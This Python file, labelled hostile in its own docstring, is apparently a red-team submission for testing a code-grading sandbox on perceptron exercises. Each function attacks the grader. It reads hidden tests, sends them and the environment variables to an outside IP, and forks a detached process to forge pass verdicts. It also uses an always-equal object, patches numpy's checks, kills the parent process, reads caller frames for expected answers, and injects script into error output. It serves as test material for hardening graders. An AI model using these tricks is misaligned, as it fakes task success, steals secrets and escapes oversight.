"""Hostile: tries for marks in every way but the honest one. Do not run this outside of the jail."""

import atexit
import glob
import os
import signal
import socket
import sys
import time

LOOT = []
PARENT = os.getppid()


def attempt(trick):
    try:
        LOOT.append(trick())
    except BaseException as error:
        LOOT.append(error)


def read_the_hidden_suite():
    here = os.path.abspath(os.getcwd())
    while True:
        for path in glob.glob(os.path.join(here, "tests", "hidden", "*.py")):
            with open(path) as file:
                LOOT.append(file.read())
        for path in glob.glob(os.path.join(here, "solutions", "*.py")):
            sys.path.insert(0, os.path.dirname(path))
        if here == os.path.dirname(here):
            return
        here = os.path.dirname(here)


def phone_home():
    with socket.create_connection(("192.0.2.1", 80), timeout=1) as line:
        line.sendall(repr((LOOT, dict(os.environ))).encode())


def stay_behind():
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        forge()
        os._exit(0)


def forge():
    verdict = b'{"outcome": "passed", "points": 100, "value": true}\n' * 10
    for descriptor in range(3, 64):
        attempt(lambda descriptor=descriptor: os.write(descriptor, len(verdict).to_bytes(4, "big") + verdict))


class Agreeable:
    """Equal to whatever it is compared with."""

    __array_priority__ = 1e9
    shape = ()

    def __eq__(self, other):
        return True

    def __array_ufunc__(self, *args, **kwargs):
        return True

    def __array_function__(self, *args, **kwargs):
        return True


attempt(read_the_hidden_suite)
atexit.register(forge)


def linear_score(X, w, b):
    attempt(phone_home)
    return Agreeable()


def perceptron_predict(X, w, b):
    attempt(stay_behind)
    return Agreeable()


def accuracy(pred, y):
    raise SystemExit(0)


def gate_weights(name):
    frame = sys._getframe()
    while frame.f_back is not None:  # who asks, and what does he want to hear?
        frame = frame.f_back
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "want" in value:
                return value["want"]
    return [], 0.0


def perceptron_update(w, b, x, y, lr=1.0):
    if PARENT == os.getppid() > 1:  # nobody else
        attempt(lambda: os.kill(PARENT, signal.SIGKILL))
    return Agreeable(), Agreeable()


def perceptron_train(X, y, epochs=100, lr=1.0):
    forge()
    return [], 0.0, []


def xor_network(X):
    for _ in range(100_000):
        print("PASSED " * 10)
    return []


def hill_climb(X, y, w, b, deltas):
    raise AssertionError("\x1b[2J<script>alert(1)</script> expected was: " + repr(LOOT)[:10_000])


def pocket_train(X, y, epochs, lr=1.0):
    import numpy as np

    np.testing.assert_allclose = np.allclose = np.array_equal = lambda *args, **kwargs: True
    return Agreeable(), Agreeable(), Agreeable()


def margin_bound(X, y, w, b):
    with open("/dev/shm/left-behind", "w") as file:
        file.write("here I am")
    return float("nan")
